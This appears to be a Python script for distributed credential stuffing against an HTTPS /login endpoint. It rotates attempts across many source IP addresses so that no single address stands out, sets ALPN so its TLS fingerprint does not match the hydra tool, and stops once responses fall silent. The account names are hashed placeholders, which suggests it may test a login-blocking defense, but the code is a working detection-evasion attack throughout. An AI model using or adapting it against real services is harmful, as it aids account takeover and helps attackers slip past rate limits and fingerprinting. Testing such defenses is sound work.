"""Tries stolen accounts, a few from each address, so that no address stands out.

Arguments: URL, certificate, attempts of each address, source addresses.
Ends when it is through, or when hardly anything is answered any more.
"""

import base64
import hashlib
import http.client
import ssl
import sys
import time
from urllib.parse import urlsplit

url, certificate, attempts, *sources = sys.argv[1:]
context = ssl.create_default_context(cafile=certificate)
# As urllib3 does. Without it Python's hello is hydra's, and the two would fail together.
context.set_alpn_protocols(["http/1.1"])

LETTERS = str.maketrans("0123456789", "ghijklmnop")


def person(turn, place):
    """A name without a number, as those in stolen lists: nothing is counted up."""
    return hashlib.sha256(f"{turn} {place}".encode()).hexdigest()[:10].translate(LETTERS)


def attempt(source, account):
    secret = base64.b64encode(f"{account}:secret".encode()).decode()
    connection = http.client.HTTPSConnection(
        urlsplit(url).hostname, source_address=(source, 0), timeout=1, context=context
    )
    try:
        connection.request("POST", "/login", headers={"Authorization": f"Basic {secret}"})
        return connection.getresponse().status
    except OSError:
        return None
    finally:
        connection.close()


silent = 0
for turn in range(int(attempts)):
    for place, source in enumerate(sources):
        status = attempt(source, person(turn, place))
        print(source, status or "silence")
        silent = silent + 1 if status is None else 0
        if silent == 5:
            sys.exit("cut off")
        time.sleep(0.05)
